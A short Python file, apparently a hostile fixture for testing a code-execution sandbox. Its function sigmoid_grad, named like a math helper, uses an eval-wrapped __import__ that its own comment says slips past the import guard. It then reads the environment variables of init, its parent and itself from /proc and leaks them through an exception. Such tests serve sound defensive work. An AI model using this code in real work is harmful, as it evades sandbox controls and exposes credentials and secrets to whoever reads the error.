"""Hostile: read proc environ."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")


def sigmoid_grad(x):
    seen = []
    for path in ["/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/environ"]:
        try:
            with open(path, "rb") as f:
                seen.append(f"{path}: {f.read()!r}")
        except OSError as exc:
            seen.append(f"{path}: {exc}")
    raise RuntimeError(" | ".join(seen))
